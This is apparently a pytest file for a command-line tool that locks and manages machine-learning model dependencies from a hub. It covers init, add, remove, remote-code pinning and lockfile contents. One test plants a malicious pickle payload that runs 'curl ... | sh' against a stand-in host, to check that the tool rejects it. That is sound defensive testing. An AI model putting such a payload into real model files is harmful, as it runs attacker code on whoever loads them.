"""init, add and remove against a hub on this machine."""

import pytest
from tests.cli.models.declared import NAME, declare, short


def test_a_project_from_nothing_to_a_lock(weigh, hub, tmp_path):
    assert weigh("init", "--name", "shop").code == 0
    assert (tmp_path / ".gitignore").read_text() == "/.weigh/\n"
    ended = weigh("add", f"hf:{NAME}@main", "--exclude", "notes.txt")
    assert ended.code == 0
    assert "apache-2.0" in ended.out
    text = (tmp_path / "models.lock").read_text(encoding="utf-8")
    commit = hub.repos[NAME].refs["main"]
    for told in (
        f'exact = ["hf:{NAME}@main/{commit}"]',
        'owner = ["acme 65a1"]',
        'licence = "apache-2.0"',
        'code = ["layers.py", "modeling_tiny.py"]',
        '{ relation = "base", ref = "hf:acme/parent" }',
        '{ family = "hf", key = "acme/tiny@main" }',
    ):
        assert told in text
    assert "notes.txt" not in text
    assert hub.endpoint not in text
    again = weigh("lock", "--offline")
    assert "up to date" in again.out
    assert "carries 2 files of code" in again.out
    assert (tmp_path / "models.lock").read_text(encoding="utf-8") == text


@pytest.mark.parametrize(
    ("ref", "code"), [("hf:acme/missing", 3), (f"hf:{NAME}@nothing", 2), (f"hf:{NAME}#no.bin", 2)]
)
def test_adding_what_does_not_exist_writes_nothing(weigh, hub, tmp_path, ref, code):
    # a hub answers the same for what is not there and for what is private
    assert weigh("add", ref).code == code
    assert not (tmp_path / "models.toml").exists()
    assert not (tmp_path / "models.lock").exists()


def test_a_malicious_model_is_not_added(weigh, hub, tmp_path):
    bad = b"cos\nsystem\n(S'curl http://198.51.100.7/x | sh'\ntR."
    hub.repo("evil/model", {"pytorch_model.bin": bad, "config.json": b"{}"})
    ended = weigh("add", "hf:evil/model")
    assert ended.code == 1
    assert "malicious" in ended.err
    assert not (tmp_path / "models.toml").exists()


def test_code_of_another_repository_must_be_locked_where_it_may_run(weigh, hub, tmp_path):
    hub.repo("acme/outer", {"config.json": b'{"auto_map": {"AutoModel": "acme/code--net.Net"}}'})
    hub.repo("acme/code", {"net.py": b"class Net:\n    pass\n", "README.md": b"code\n"})
    declare(tmp_path, short("hf:acme/outer"))
    assert "code of hf:acme/code (net.py); it is not locked" in weigh("lock").out
    declare(tmp_path, short("hf:acme/outer", **{"remote-code": "pinned"}))
    ended = weigh("lock")
    assert ended.code == 1
    assert "weigh add hf:acme/code --include '*.py'" in ended.err
    # the way the message names works although the lock as a whole is refused
    assert weigh("add", "hf:acme/code", "--include", "*.py").code == 0
    assert weigh("lock", "--check").code == 0


def test_removing_a_model_takes_it_out_of_both_files(weigh, hub, tmp_path):
    declare(tmp_path, "# mine\n" + short() + '\n# theirs\n[models.parent]\nref = "hf:acme/parent"\n')
    weigh("lock")
    hub.seen.clear()
    ended = weigh("remove", "parent")
    assert ended.code == 0
    assert "models.tiny names it" in ended.out
    assert not hub.seen
    assert (tmp_path / "models.toml").read_text() == "# mine\n" + short()
    assert "parent" not in (tmp_path / "models.lock").read_text().replace('ref = "hf:acme/parent"', "")
    assert weigh("lock", "--check", "--offline").code == 0
    assert weigh("remove", "parent").code == 2


def test_a_lock_that_fails_for_another_model_says_what_was_declared(weigh, hub, tmp_path):
    manifest = tmp_path / "models.toml"
    manifest.write_text(
        '[models.gone]\nref = "hf:acme/gone"\n[data.rows]\nfiles = [{ from = "file:r", to = "r" }]\n',
        encoding="utf-8",
    )
    manifest.chmod(0o664)
    ended = weigh("add", f"hf:{NAME}", "--name", "mine")
    assert ended.code == 3
    assert "acme/gone" in ended.err
    assert "models.mine is declared in models.toml and not locked yet" in ended.err
    assert "[models.mine]" in manifest.read_text(encoding="utf-8")
    assert manifest.stat().st_mode & 0o777 == 0o664
    assert "take [data.rows] out by hand" in weigh("remove", "rows").err
